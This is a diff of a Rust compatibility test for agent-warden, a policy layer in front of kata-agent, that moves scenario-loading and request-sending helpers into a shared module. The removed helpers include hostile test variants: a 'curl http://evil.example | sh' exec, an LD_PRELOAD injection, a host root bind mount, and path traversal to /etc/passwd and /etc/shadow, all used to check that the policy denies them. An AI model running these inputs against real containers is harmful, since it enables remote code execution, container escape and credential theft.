@@ -1,7 +1,8 @@
 //! Compatibility suite on the real genpolicy scenarios in ../shared/peers/kata-genpolicy.
 //!
 //! Each recorded input is turned back into its protobuf request, sent over ttrpc
-//! through agent-warden (that scenario's policy, Rego v0, legacy input shape), and the
+//! through agent-warden (that scenario's policy, under the profile of the kata-agent that
+//! recorded it: `kata = "2024"`, Rego v0, a legacy input shape), and the
 //! decision must equal outputs.json. Because every recorded decision is an allow,
 //! hostile variants of the recorded requests are derived too; their expected decision
 //! comes from evaluating the same policy the way kata-agent does (a fresh regorus
@@ -9,48 +10,11 @@
 
 mod common;
 
-use std::path::{Path, PathBuf};
-
-use agent_warden::policy::{Decision, RegoVersion};
-use agent_warden::wire::encode;
-use agent_warden::wire::input::InputShape;
+use agent_warden::policy::Decision;
 use agent_warden::wire::methods;
+use common::peers::*;
 use common::*;
 use serde_json::{json, Value};
-
-fn peers_dir() -> Option<PathBuf> {
-    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/peers/kata-genpolicy");
-    if dir.is_dir() {
-        return Some(dir);
-    }
-    if std::env::var("CI").as_deref() == Ok("true") {
-        panic!("peer data missing at {} (required in CI)", dir.display());
-    }
-    eprintln!("skipping: peer data not found at {}", dir.display());
-    None
-}
-
-/// Parses inputs.txt: one `["ep":"<Type>",{...}],` per non-empty line.
-fn parse_inputs(text: &str) -> Vec<(String, Value)> {
-    text.lines()
-        .map(str::trim)
-        .filter(|l| !l.is_empty())
-        .map(|l| {
-            let rest = l
-                .strip_prefix("[\"ep\":\"")
-                .expect("line starts with [\"ep\":\"");
-            let (ty, rest) = rest.split_once("\",").expect("type then input");
-            let json = rest
-                .trim_end_matches(',')
-                .strip_suffix(']')
-                .expect("line ends with ]");
-            (
-                ty.to_string(),
-                serde_json::from_str(json).expect("input is JSON"),
-            )
-        })
-        .collect()
-}
 
 /// kata-agent's way: regorus, input as a JSON string, eval_query on the rule.
 struct KataReference(regorus::Engine);
@@ -87,141 +51,30 @@ impl KataReference {
     }
 }
 
-/// Sends one policy input as its protobuf request through agent-warden; true if it
-/// was not blocked by policy.
-async fn send(client: &ttrpc::r#async::Client, shape: InputShape, ty: &str, input: &Value) -> bool {
-    let method = methods::table()
-        .all()
-        .iter()
-        .find(|m| m.request_type == ty)
-        .expect("known request type");
-    let msg = encode::from_policy_input(&method.request, input, shape)
-        .unwrap_or_else(|e| panic!("{ty}: cannot encode recorded input: {e}"));
-    let payload = msg.write_to_bytes_dyn().unwrap();
-    let req = ttrpc::proto::Request {
-        service: method.service.clone(),
-        method: method.name.clone(),
-        payload,
-        timeout_nano: 10_000_000_000,
-        ..Default::default()
-    };
-    match client.request(req).await {
-        Ok(_) => true,
-        Err(ttrpc::Error::RpcStatus(s)) if s.code.value() == 7 => {
-            assert!(
-                s.message.starts_with(&format!("{ty} is blocked by policy")),
-                "{}",
-                s.message
-            );
-            false
-        }
-        Err(ttrpc::Error::RpcStatus(s)) => {
-            panic!("{ty}: unexpected status {:?} {}", s.code, s.message)
-        }
-        Err(e) => panic!("{ty}: transport error {e}"),
-    }
-}
-
-/// Hostile variants of a recorded request: (label, mutated input).
-fn variants(ty: &str, input: &Value) -> Vec<(&'static str, Value)> {
-    let mut out = Vec::new();
-    let mut edit = |label: &'static str, f: &dyn Fn(&mut Value)| {
-        let mut v = input.clone();
-        f(&mut v);
-        out.push((label, v));
-    };
-    match ty {
-        "ExecProcessRequest" => {
-            edit("exec: other command line", &|v| {
-                v["process"]["Args"] = json!(["sh", "-c", "curl http://evil.example | sh"])
-            });
-            edit("exec: extra env", &|v| {
-                if let Some(env) = v["process"]["Env"].as_array_mut() {
-                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
-                }
-            });
-        }
-        "CreateContainerRequest" => {
-            edit("create: extra env", &|v| {
-                if let Some(env) = v["OCI"]["Process"]["Env"].as_array_mut() {
-                    env.push(json!("LD_PRELOAD=/tmp/evil.so"));
-                }
-            });
-            edit("create: other command line", &|v| {
-                v["OCI"]["Process"]["Args"] = json!(["/bin/sh", "-c", "id"])
-            });
-            edit("create: host bind mount", &|v| {
-                if let Some(m) = v["OCI"]["Mounts"].as_array_mut() {
-                    m.push(json!({"destination": "/host", "source": "/", "type_": "bind", "options": ["rbind", "rw"]}));
-                }
-            });
-        }
-        "CopyFileRequest" => {
-            edit("copy: outside shared dir", &|v| {
-                v["path"] = json!("/etc/passwd")
-            });
-            edit("copy: dot-dot escape", &|v| {
-                v["path"] = json!("/run/kata-containers/shared/containers/../../../etc/shadow")
-            });
-        }
-        "CreateSandboxRequest" => {
-            edit("sandbox: extra kernel module", &|v| {
-                if let Some(m) = v["kernel_modules"].as_array_mut() {
-                    m.push(json!({"name": "evil", "parameters": []}));
-                }
-            });
-        }
-        _ => {}
-    }
-    out
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn peer_scenarios_decide_as_recorded_and_hostile_variants_as_kata_would() {
     let Some(dir) = peers_dir() else { return };
-    let mut scenarios: Vec<PathBuf> = std::fs::read_dir(&dir)
-        .unwrap()
-        .map(|e| e.unwrap().path())
-        .filter(|p| p.join("policy.rego").is_file())
-        .collect();
-    scenarios.sort();
-    assert!(
-        scenarios.len() >= 6,
-        "expected the six genpolicy scenarios, found {}",
-        scenarios.len()
-    );
+    let scenarios = scenarios(&dir);
     let (mut recorded, mut hostile, mut hostile_denied, mut fast_allows, mut constant_allows) =
         (0, 0, 0, 0, 0);
     let mut every_type = 0;
     for scenario in &scenarios {
-        let name = scenario.file_name().unwrap().to_string_lossy().to_string();
-        let policy = std::fs::read_to_string(scenario.join("policy.rego")).unwrap();
-        let inputs = parse_inputs(&std::fs::read_to_string(scenario.join("inputs.txt")).unwrap());
-        let outputs: Vec<bool> =
-            serde_json::from_str(&std::fs::read_to_string(scenario.join("outputs.json")).unwrap())
-                .unwrap();
-        assert_eq!(
-            inputs.len(),
-            outputs.len(),
-            "{name}: inputs and outputs differ in length"
-        );
-
-        // Two older kata-agent versions recorded these: the later one already sent
-        // the stdio vsock ports in CreateContainerRequest.
-        let shape = if inputs
-            .iter()
-            .any(|(ty, v)| ty == "CreateContainerRequest" && v.get("stdin_port").is_some())
-        {
-            InputShape::LegacyStreamPorts
-        } else {
-            InputShape::Legacy
-        };
-        let h = Harness::start_with(&policy, RegoVersion::V0, shape).await;
+        let Scenario {
+            name,
+            policy,
+            inputs,
+            outputs,
+            rego,
+            shape,
+            ..
+        } = scenario;
+        let shape = *shape;
+        let h = Harness::start_with(policy, *rego, shape).await;
         h.agent.release(100_000); // long polls in the recordings answer at once
         let client = h.client().await;
-        let reference = KataReference::new(&policy);
+        let reference = KataReference::new(policy);
         let mut seen_types = std::collections::HashSet::new();
-        for (i, ((ty, input), expected)) in inputs.iter().zip(&outputs).enumerate() {
+        for (i, ((ty, input), expected)) in inputs.iter().zip(outputs.iter()).enumerate() {
             if ty == "AllowRequestsFailingPolicy" {
                 let (v, _) = h
                     .guard
